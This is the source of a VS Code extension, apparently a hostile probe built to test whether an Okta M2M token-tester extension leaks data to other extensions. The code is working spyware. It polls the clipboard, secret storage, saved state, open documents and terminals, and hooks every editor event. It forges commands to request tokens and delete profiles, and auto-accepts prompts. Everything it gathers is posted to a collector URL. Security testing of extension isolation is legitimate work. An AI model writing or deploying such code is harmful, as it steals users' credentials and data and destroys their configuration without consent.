/* global require, exports, fetch, setTimeout, setInterval, clearInterval, TextDecoder */
// Does whatever any extension can do to come by what is another one's, in the extension host that it is run in, and
// sends what it was told to the address in its package.json. It knows the ids of profiles and our own source.
const vscode = require("vscode");

const OURS = "m2m-token-tester.okta-m2m-token-tester";
const VIEW_TYPES = ["oktaM2m.result", "oktaM2m.decoded", "oktaM2m.storedDocument"];
const SCHEMES = ["okta-m2m-page", "okta-m2m-stored-profile", "output", "vscode-userdata", "vscode-local"];
/** Where documents of ours are, have been or could be thought to be. */
const ADDRESSES = [
  "okta-m2m-page:/",
  "okta-m2m-page:/Public Key.md",
  "vscode-userdata:/User",
  "vscode-userdata:/User/globalStorage",
  "vscode-userdata:/User/globalStorage/m2m-token-tester.okta-m2m-token-tester",
  "vscode-userdata:/User/History",
  "vscode-userdata:/User/workspaceStorage",
  "output:okta-m2m-token-tester",
  "output:m2m-token-tester.okta-m2m-token-tester.M2M Token Tester for Okta",
  "webview-panel:/oktaM2m.result",
  "vscode-webview:/oktaM2m.result",
  "vscode-scm:/oktaM2m",
  "vscode-terminal:/1",
  "walkThrough:/oktaM2m",
  "memfs:/oktaM2m",
  "tmp:/oktaM2m",
];
/** A command may wait for an answer that its user never gives. */
const PATIENCE_MS = 50;
const DEEPEST = 6;
const WIDEST = 200;

let told = () => undefined;

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Everything that an object leads to, as text, whatever its getters do. */
function everythingIn(value, depth = 0, seen = new Set()) {
  if (typeof value !== "object" || value === null) return typeof value === "function" ? "" : String(value);
  if (depth > DEEPEST || seen.has(value)) return "";
  seen.add(value);
  const texts = [];
  const add = (read) => {
    try {
      texts.push(everythingIn(read(), depth + 1, seen));
    } catch {
      // What cannot be read tells nothing.
    }
  };
  if (typeof value.getText === "function") add(() => value.getText());
  if (ArrayBuffer.isView(value)) add(() => new TextDecoder("latin1").decode(value));
  else for (const name in value) if (texts.push(name) < WIDEST) add(() => value[name]);
  for (const name of Object.getOwnPropertyNames(Object.getPrototypeOf(value) ?? {})) {
    if (name !== "__proto__" && typeof value[Symbol.iterator] !== "function") add(() => value[name]);
  }
  if (value instanceof Map || value instanceof Set) for (const one of value) add(() => one);
  return texts.filter((text) => text !== "").join("\n");
}

/** What came of an attempt, within a time. */
async function attempt(what, act) {
  const late = sleep(PATIENCE_MS).then(() => "nothing yet");
  try {
    const acted = Promise.resolve(act());
    // What comes later is told as well.
    acted.then(
      (value) => told(what, value),
      () => undefined,
    );
    await Promise.race([acted, late]);
  } catch (error) {
    told(`${what} failed`, error);
  }
}

/** Every event that VS Code offers, by its name. */
function listenToEverything(subscriptions) {
  let count = 0;
  for (const [name, namespace] of Object.entries(vscode)) {
    if (typeof namespace !== "object" || namespace === null) continue;
    const owners = [
      [name, namespace],
      [`${name}.tabGroups`, namespace.tabGroups],
    ];
    for (const [path, owner] of owners) {
      for (const event of Object.keys(owner ?? {}).concat(
        Object.keys(Object.getPrototypeOf(owner ?? {}) ?? {}),
      )) {
        if (!/^on(Did|Will)[A-Z]/.test(event)) continue;
        try {
          subscriptions.push(owner[event]((value) => void told(`${path}.${event}`, value)));
          count += 1;
        } catch {
          // A proposal that this extension may not use.
        }
      }
    }
  }
  return count;
}

/** What is asked for documents and their parts, for any document whatever. */
function provideEverything(subscriptions) {
  const everywhere = [{ scheme: "*" }, "*"];
  const told_ = (name) => (document) => void told(name, document);
  const { languages, window, workspace } = vscode;
  subscriptions.push(
    languages.registerHoverProvider(everywhere, { provideHover: told_("hover") }),
    languages.registerDocumentLinkProvider(everywhere, { provideDocumentLinks: told_("links") }),
    languages.registerCodeLensProvider(everywhere, { provideCodeLenses: told_("lenses") }),
    languages.registerCodeActionsProvider(everywhere, { provideCodeActions: told_("actions") }),
    languages.registerCompletionItemProvider(everywhere, { provideCompletionItems: told_("completion") }),
    languages.registerDocumentSymbolProvider(everywhere, { provideDocumentSymbols: told_("symbols") }),
    languages.registerFoldingRangeProvider(everywhere, { provideFoldingRanges: told_("folding") }),
    languages.registerInlineCompletionItemProvider(everywhere, {
      provideInlineCompletionItems: told_("inline completion"),
    }),
  );
  for (const viewType of VIEW_TYPES) {
    attempt(`serializer ${viewType}`, () =>
      subscriptions.push(
        window.registerWebviewPanelSerializer(viewType, {
          deserializeWebviewPanel: async (panel, state) => {
            told(`state of ${viewType}`, state);
            panel.webview.onDidReceiveMessage((message) => told(`message of ${viewType}`, message));
          },
        }),
      ),
    );
  }
  attempt("uri handler", () =>
    subscriptions.push(window.registerUriHandler({ handleUri: (uri) => told("uri", uri) })),
  );
  attempt("terminal links", () =>
    subscriptions.push(
      window.registerTerminalLinkProvider({
        provideTerminalLinks: ({ line }) => {
          told("terminal", line);
          return [];
        },
        handleTerminalLink: () => undefined,
      }),
    ),
  );
  attempt("our old scheme", () =>
    subscriptions.push(
      workspace.registerFileSystemProvider("okta-m2m-stored-profile", {
        onDidChangeFile: () => ({ dispose: () => undefined }),
        watch: () => ({ dispose: () => undefined }),
        stat: (uri) => told("stat", uri),
        readFile: (uri) => told("readFile", uri),
        writeFile: (uri, content) => told("writeFile", { uri, content }),
      }),
    ),
  );
}

/** What stands in windows and documents now. */
async function lookAround(context) {
  const { window, workspace, env } = vscode;
  told("documents", workspace.textDocuments);
  told("notebooks", workspace.notebookDocuments);
  told("editors", window.visibleTextEditors);
  told("tabs", window.tabGroups.all);
  told("terminals", window.terminals);
  await attempt("clipboard", () => env.clipboard.readText());
  await attempt("secrets", async () => {
    const keys = [...(await context.secrets.keys()), ...context.extension.packageJSON.guesses];
    return Promise.all(keys.map(async (key) => [key, await context.secrets.get(key)]));
  });
  for (const memento of [context.globalState, context.workspaceState])
    told(
      "state",
      [...memento.keys(), ...context.extension.packageJSON.guesses].map((key) => [key, memento.get(key)]),
    );
}

/** Everything below an address, as far as there is any. */
async function readAll(uri, depth = 0) {
  const { fs } = vscode.workspace;
  await attempt(`file ${uri}`, () => fs.readFile(uri));
  let names = [];
  try {
    names = await Promise.race([fs.readDirectory(uri), sleep(PATIENCE_MS).then(() => [])]);
  } catch {
    // Not a folder, or not a file system at all.
  }
  told(`folder ${uri}`, names);
  if (depth < DEEPEST) for (const [name] of names) await readAll(vscode.Uri.joinPath(uri, name), depth + 1);
}

async function openDocuments(guesses) {
  for (const address of [
    ...ADDRESSES,
    ...SCHEMES.flatMap((scheme) => guesses.map((guess) => `${scheme}:/${guess}`)),
    ...guesses.map((guess) => `okta-m2m-stored-profile:/${guess}.json`),
  ]) {
    const uri = vscode.Uri.parse(address);
    await attempt(`document ${address}`, () => vscode.workspace.openTextDocument(uri));
    await readAll(uri);
  }
}

/** The API, if it can be had from this host at all. */
async function useApi(profileIds) {
  const extension = vscode.extensions.getExtension(OURS);
  told("extension", extension === undefined ? "not there" : extension.packageJSON.name);
  await attempt("exports", () => extension?.exports);
  let api;
  await attempt("activation", async () => {
    api = await extension?.activate();
    return api;
  });
  await sleep(20 * PATIENCE_MS);
  if (api === undefined || api === null) return told("API", "not there");
  told("API", "there");
  await attempt("onDidFinishRun", () => api.onDidFinishRun((run) => told("run", run)));
  await attempt("listing", () => api.profiles.list());
  for (const id of profileIds) {
    await attempt(`request ${id}`, () => api.requestToken(id));
    await attempt(`removal ${id}`, () => api.profiles.remove(id));
  }
}

/** What a tree, a view or a link of ours could have handed to a command. */
function forgedArguments(profileId) {
  return [
    [{ profileId }],
    [{ kind: "profile", profileId, entry: { kind: "profile", id: profileId } }, undefined],
  ];
}

async function startCommands(profileIds) {
  const { commands } = vscode;
  const ours = (await commands.getCommands()).filter((id) => /^oktaM2m\./.test(id));
  told("commands", ours);
  const start = (id, args) => attempt(`command ${id}`, () => commands.executeCommand(id, ...args));
  for (const id of ours) {
    for (const profileId of profileIds) for (const args of forgedArguments(profileId)) await start(id, args);
    for (const args of [[], ["nobody"], [{ profileId: { toString: () => profileIds[0] } }]]) {
      await start(id, args);
      await commands.executeCommand("workbench.action.closeQuickOpen");
    }
  }
  await commands.executeCommand("workbench.action.closeQuickOpen");
}

exports.activate = (context) => {
  const { collector, guesses, profileIds } = context.extension.packageJSON;
  told = (where, value) => {
    const text = `${where}\n${everythingIn(value)}`;
    // A form of request that a browser sends without asking the server first.
    fetch(collector, { method: "POST", mode: "no-cors", body: text }).catch(() => undefined);
  };
  const { subscriptions } = context;
  provideEverything(subscriptions);
  told("listening", `to ${listenToEverything(subscriptions)} events`);
  const looking = setInterval(() => void lookAround(context), 2000);
  subscriptions.push({ dispose: () => clearInterval(looking) });
  const register = (id, act) =>
    subscriptions.push(
      vscode.commands.registerCommand(id, async () => {
        await act();
        told("done", id);
      }),
    );
  register("hostile.read", async () => {
    await useApi([]);
    await openDocuments(guesses);
    await lookAround(context);
  });
  register("hostile.start", async () => {
    await useApi(profileIds);
    await startCommands(profileIds);
  });
  register("hostile.acceptFirst", async () => {
    const request = vscode.commands.executeCommand("oktaM2m.getClientCredentialsToken");
    await sleep(20 * PATIENCE_MS);
    await vscode.commands.executeCommand("workbench.action.acceptSelectedQuickOpenItem");
    await request;
  });
};
